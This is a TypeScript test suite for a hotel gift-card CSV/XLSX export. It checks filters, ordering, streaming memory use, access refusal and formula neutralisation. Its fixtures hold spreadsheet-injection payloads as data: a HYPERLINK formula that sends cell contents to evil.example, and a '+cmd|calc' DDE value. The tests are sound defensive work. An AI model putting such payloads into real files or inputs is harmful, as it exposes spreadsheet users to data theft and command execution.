import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { type GiftCardsExportQuery, giftCardsExportQuery, type TernClient } from '@tern/sdk';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralise } from '../src/services/giftCards/export.js';
import { refusedWith } from './helpers/refusal.js';
import { startTestServer, type TestServer } from './helpers/server.js';

// The orders list as CSV and XLSX (document 3 §2.3 export menu, §7 exportFormat): the list's filters, every
// page, formulas neutralised, a file name, refused for another company's property, and streamed: 40,000 cards
// leave without the heap growing with them.

let server: TestServer;
let hotelier: TernClient;
let rival: TernClient;
let propertyId: string;
let typeId: string;
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

const refusal = refusedWith;

/** A file reply: the client hands back the blob and its name (the contract types `file` replies loosely). */
const download = async (
  client: TernClient,
  input: Parameters<TernClient['giftCards']['export']>[0],
): Promise<{ blob: Blob; fileName: string | null }> =>
  (await client.giftCards.export(input)) as unknown as { blob: Blob; fileName: string | null };

const csvRows = async (blob: Blob): Promise<string[][]> => {
  const bytes = new Uint8Array(await blob.arrayBuffer());
  // A UTF-8 byte-order mark first (spreadsheets read the file as UTF-8).
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(new TextDecoder().decode(bytes));
};

const xlsxRows = async (blob: Blob): Promise<unknown[][]> => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await blob.arrayBuffer());
  const sheet = workbook.getWorksheet('Gift cards')!;
  const rows: unknown[][] = [];
  sheet.eachRow((row) => {
    rows.push((row.values as unknown[]).slice(1));
  });
  return rows;
};

beforeAll(async () => {
  server = await startTestServer();
  hotelier = server.client(await server.signIn('hotelier'));
  rival = server.client(await server.signIn('hotelier2'));
  propertyId = (await server.db.one<{ id: string }>(`select id from properties where key = 'harbour-view'`))!
    .id;
  const plan = (await server.db.one<{ unit_id: string; id: string }>(
    'select unit_id, id from rate_plans where property_id = $1 order by id limit 1',
    [propertyId],
  ))!;
  const type = await hotelier.giftCards.createType({
    body: {
      propertyId,
      title: 'Export stay',
      description: '<p>x</p>',
      price: 120,
      limit: 200_000,
      storeIds: [
        (await server.db.one<{ id: string }>(`select id from stores where slug = 'harbour-view'`))!.id,
      ],
      ratePlans: [{ roomTypeId: plan.unit_id, ratePlanId: plan.id }],
    },
  });
  typeId = type.id;
  const { cards } = await hotelier.giftCards.issue({
    params: { id: typeId },
    body: {
      propertyId,
      netPrice: 100,
      buyerName: '@SUM(1+1)',
      recipients: [
        { rowKey: 'a', name: HOSTILE, email: 'a@example.com', note: '+cmd|calc' },
        { rowKey: 'b', name: 'Ana, "Quoted"\nNewline', email: 'b@example.com' },
        { rowKey: 'c', name: 'Carl', email: 'c@example.com', note: '-2+3' },
      ],
    },
  });
  await hotelier.giftCards.markUsed({ params: { id: cards[2]!.id }, body: { propertyId, notes: 'stayed' } });
}, 180_000);
afterAll(() => server?.close());

describe('neutralise', () => {
  it('prefixes what a spreadsheet would run, and nothing else', () => {
    for (const t of ['=1+1', '+1', '-1', '@A1', '\tx', '\rx']) expect(neutralise(t)).toBe(`'${t}`);
    for (const t of ['Ana', '', ' =1', "'=1", 'a=b']) expect(neutralise(t)).toBe(t);
  });
});

describe('export', () => {
  it('gives the filtered list as CSV: header, rows in the list order, formulas neutralised, a file name', async () => {
    const file = await download(hotelier, {
      query: { propertyId, exportFormat: 'csv', orderBy: 'code' },
    });
    expect(file.fileName).toMatch(/^gift-cards-\d{4}-\d{2}-\d{2}\.csv$/);
    const [header, ...rows] = await csvRows(file.blob);
    expect(header).toEqual([
      'Code',
      'Title',
      'Kind',
      'Recipient',
      'E-mail',
      'Buyer',
      'Buyer e-mail',
      'Sold',
      'Expires',
      'Status',
      'Delivery',
      'Delivered',
      'Price',
      'Net price',
      'Source',
      'Notes',
    ]);
    const list = await hotelier.giftCards.list({ query: { propertyId, orderBy: 'code', limit: 100 } });
    expect(rows.map((r) => r[0])).toEqual(list.items.map((c) => c.generatedId));
    const byEmail = new Map(rows.map((r) => [r[4], r]));
    expect(byEmail.get('a@example.com')).toMatchObject({
      1: 'Export stay',
      3: `'${HOSTILE}`,
      5: "'@SUM(1+1)",
      9: 'unused',
      12: '120',
      13: '100',
      15: "'+cmd|calc",
    });
    expect(byEmail.get('b@example.com')![3]).toBe('Ana, "Quoted"\nNewline');
    expect(byEmail.get('c@example.com')).toMatchObject({ 9: 'used', 15: 'stayed' });
  });

  it('gives the same as XLSX, read back with exceljs: prices as numbers, texts neutralised', async () => {
    const csv = await csvRows(
      (await download(hotelier, { query: { propertyId, exportFormat: 'csv' } })).blob,
    );
    const file = await download(hotelier, { query: { propertyId, exportFormat: 'xlsx' } });
    expect(file.fileName).toMatch(/^gift-cards-\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(file.blob.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const xlsx = await xlsxRows(file.blob);
    expect(xlsx.length).toBe(csv.length);
    // Same cells; the CSV's numbers are text, empty cells are absent in the sheet.
    expect(xlsx.map((r) => csv[0]!.map((_, i) => String(r[i] ?? '')))).toEqual(csv);
    const hostile = xlsx.find((r) => r[4] === 'a@example.com')!;
    expect(hostile[3]).toBe(`'${HOSTILE}`);
    expect(hostile[12]).toBe(120);
    expect(hostile[13]).toBe(100);
  });

  it('keeps to the filters and the order of the list', async () => {
    const used = await csvRows(
      (await download(hotelier, { query: { propertyId, exportFormat: 'csv', booked: true } })).blob,
    );
    expect(used.slice(1).map((r) => r[4])).toEqual(['c@example.com']);
    const term = await csvRows(
      (await download(hotelier, { query: { propertyId, exportFormat: 'csv', term: 'ana,' } })).blob,
    );
    expect(term.slice(1).map((r) => r[4])).toEqual(['b@example.com']);
    const none = await csvRows(
      (
        await download(hotelier, {
          query: { propertyId, exportFormat: 'csv', soldTo: '2000-01-01' },
        })
      ).blob,
    );
    expect(none).toHaveLength(1);
    const asc = await csvRows(
      (
        await download(hotelier, {
          query: { propertyId, exportFormat: 'csv', orderBy: 'code', orderDirection: 'asc' },
        })
      ).blob,
    );
    const codes = asc.slice(1).map((r) => r[0]!);
    expect(codes).toEqual([...codes].sort());
    expect(codes).toHaveLength(3);
  });

  it('agrees with the list on every filter, and searches ignoring case and accents', async () => {
    const { cards } = await hotelier.giftCards.issue({
      params: { id: typeId },
      body: {
        propertyId,
        netPrice: 100,
        recipients: [
          { rowKey: 'd', name: 'Björk Guðmundsdóttir', email: 'd@example.com' },
          { rowKey: 'e', name: 'Þóra 100%', email: 'e@example.com' },
          { rowKey: 'f', name: 'a_b', email: 'f@example.com' },
        ],
      },
    });
    await hotelier.giftCards.markDelivered({ params: { id: cards[0]!.id }, body: { propertyId } });
    type Filters = Omit<GiftCardsExportQuery, 'propertyId' | 'exportFormat' | 'orderBy' | 'orderDirection'>;
    const values: { [K in keyof Required<Filters>]: Filters[K][] } = {
      term: ['BJORK', 'gudmundsdottir', 'thora', '100%', '0%', 'a_b', 'ana,'],
      kind: ['gift_card', 'upsell'],
      booked: [true, false],
      delivered: [true, false],
      sendByLetter: [true, false],
      giftCardTypeId: [typeId],
      soldFrom: ['2000-01-01', '2999-01-01'],
      soldTo: ['2000-01-01', '2999-01-01'],
    };
    // Every filter the export takes is tried here: a new one fails this until it is.
    const {
      propertyId: _p,
      exportFormat: _f,
      orderBy: _o,
      orderDirection: _d,
      ...filters
    } = giftCardsExportQuery.shape;
    expect(Object.keys(values).sort()).toEqual(Object.keys(filters).sort());
    const found: Record<string, string[]> = {};
    for (const [key, tried] of Object.entries(values))
      for (const value of tried) {
        const query = { propertyId, [key]: value };
        const listed = await hotelier.giftCards.list({ query: { ...query, limit: 100 } });
        const exported = await csvRows(
          (await download(hotelier, { query: { ...query, exportFormat: 'csv' } })).blob,
        );
        const names = listed.items.map((c) => c.name);
        // The file neutralises what a spreadsheet would run; the list shows it as it is.
        expect(
          exported.slice(1).map((r) => r[3]),
          `${key}=${value}`,
        ).toEqual(names.map(neutralise));
        found[`${key}=${value}`] = names;
      }
    expect(found['term=BJORK']).toEqual(['Björk Guðmundsdóttir']);
    expect(found['term=gudmundsdottir']).toEqual(['Björk Guðmundsdóttir']);
    expect(found['term=thora']).toEqual(['Þóra 100%']);
    // LIKE's wildcards are searched as themselves.
    expect(found['term=100%']).toEqual(['Þóra 100%']);
    expect(found['term=0%']).toEqual(['Þóra 100%']);
    expect(found['term=a_b']).toEqual(['a_b']);
    expect(found['delivered=true']).toEqual(['Björk Guðmundsdóttir']);
    expect(found['soldTo=2000-01-01']).toEqual([]);
    expect(found['soldFrom=2999-01-01']).toEqual([]);
    expect(found['soldFrom=2000-01-01']).toHaveLength(6);
  });

  it('refuses another company’s property and a bad format', async () => {
    expect(await refusal(download(rival, { query: { propertyId, exportFormat: 'csv' } }))).toMatchObject({
      status: 404,
    });
    const bad = await server.fetch(
      `/api/v1/tern_hotels/gift_cards/export?propertyId=${propertyId}&exportFormat=pdf`,
      {
        headers: { authorization: `Bearer ${await server.signIn('hotelier')}` },
      },
    );
    expect(bad.status).toBe(400);
  });

  /**
   * What a streamed export may hold alive at once, in MB of JavaScript heap after a full collection: measured 1.2
   * (CSV) and 2.1 (XLSX) with 100,000 cards; the same export holding its pages of rows before writing them, 67 with
   * 100,000 cards, so about 27 with the 40,000 here: the bound still tells the two apart.
   */
  const GROWTH_MB = 16;
  it('streams 40,000 cards, CSV and XLSX, without the heap growing with them', async () => {
    const token = await server.signIn('hotelier');
    await server.db.query(
      `insert into gift_cards (generated_id, gift_card_type_id, property_id, title, name, email, expiration_date,
              price, net_price, row_key, created_at, updated_at)
       select translate(lpad(i::text, 12, 'Z'), '01', 'AB'), $1, $2, 'Bulk stay', 'Guest ' || i,
              'guest' || i || '@example.com', date '2030-01-01', 120, 100, 'bulk-' || i,
              timestamptz '2026-01-01' + i * interval '1 second', timestamptz '2026-01-01'
         from generate_series(1, 40000) i`,
      [typeId, propertyId],
    );
    // Postgres' autovacuum would analyze the table after such an insert; the embedded database has none.
    await server.db.query('analyze gift_cards');
    // The embedded database held the event loop while inserting: let idle sockets close before calling again.
    await new Promise((resolve) => setTimeout(resolve, 200));
    // The memory is read after a full collection (`gc`, exposed here): what the export holds alive, not the garbage
    // a busy process has not collected yet (which moved the peak by 100 MB and more from run to run).
    setFlagsFromString('--expose-gc');
    const collect = runInNewContext('gc') as () => void;
    const live = () => {
      collect();
      return process.memoryUsage().heapUsed;
    };
    for (const format of ['csv', 'xlsx'] as const) {
      const before = live();
      let peak = before;
      let sampled = 0;
      let bytes = 0;
      let newlines = 0;
      const started = performance.now();
      const response = await server.fetch(
        `/api/v1/tern_hotels/gift_cards/export?propertyId=${propertyId}&exportFormat=${format}&term=bulk`,
        { headers: { authorization: `Bearer ${token}` } },
      );
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        bytes += value.length;
        if (format === 'csv') for (const b of value) if (b === 10) newlines++;
        // Every megabyte received (and at the first chunk: an export built whole before it is sent is alive then).
        if (bytes - sampled >= 2 ** 20 || sampled === 0) {
          sampled = bytes;
          peak = Math.max(peak, live());
        }
      }
      const growth = (peak - before) / 2 ** 20;
      console.log(
        `export ${format}: 40,000 cards, ${(bytes / 2 ** 20).toFixed(1)} MB in ${Math.round(performance.now() - started)} ms, heap growth ${growth.toFixed(1)} MB`,
      );
      if (format === 'csv') expect(newlines).toBe(40_001);
      else expect(bytes).toBeGreaterThan(400_000);
      // Rows held at once are a page (1,000), not the export's 40,000.
      expect(growth).toBeLessThan(GROWTH_MB);
    }
  }, 300_000);
});
